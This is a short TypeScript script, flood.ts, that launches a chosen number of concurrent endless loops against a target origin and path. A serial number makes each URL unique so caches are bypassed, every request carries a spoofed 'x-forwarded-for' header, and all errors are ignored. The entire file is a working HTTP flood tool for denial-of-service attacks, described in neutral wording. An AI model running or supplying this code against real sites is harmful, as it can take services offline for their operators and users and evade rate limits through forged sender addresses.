/** Opens addresses that never repeat from one sender, some at once, until it is ended: `node flood.ts ORIGIN PATH SENDER AT_ONCE`. */
const [origin = '', path = '', sender = '', atOnce = ''] = process.argv.slice(2)

let serial = 0
const goOn = async () => {
  for (;;) {
    serial += 1
    const address = `${origin}${path}${serial}`
    await fetch(address, { headers: { 'x-forwarded-for': sender } })
      .then((answer) => answer.arrayBuffer())
      .catch(() => {})
  }
}
for (let count = 0; count < Number(atOnce); count += 1) void goOn()
